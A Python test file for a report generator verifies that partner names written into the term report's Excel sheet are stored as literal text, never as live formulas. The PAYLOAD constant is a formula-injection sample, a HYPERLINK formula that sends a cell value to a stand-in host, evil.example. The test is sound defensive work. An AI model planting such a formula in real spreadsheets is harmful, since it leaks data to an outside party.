"""The term report's Excel file writes partner names as text, never as formulas."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook
from tests.reports.conftest import data_for_the_module

from .test_documents import report

_report_data, data = data_for_the_module()

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&A2,"Bấm vào đây")'


def test_report_excel_holds_a_formula_name_as_text(data):
    w = data.world
    type(data.lao).objects.filter(pk=data.lao.pk).update(name_vi=PAYLOAD)
    raw = report(w, "daklak", w.daklak, "xlsx", term="XIII")
    with zipfile.ZipFile(io.BytesIO(raw)) as z:
        sheets = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/")]
    assert not any(re.search(r"<f[ >]", xml) for xml in sheets)
    ws = load_workbook(io.BytesIO(raw))["Nguồn lực theo đối tác"]
    assert PAYLOAD in [c.value for row in ws.iter_rows() for c in row]
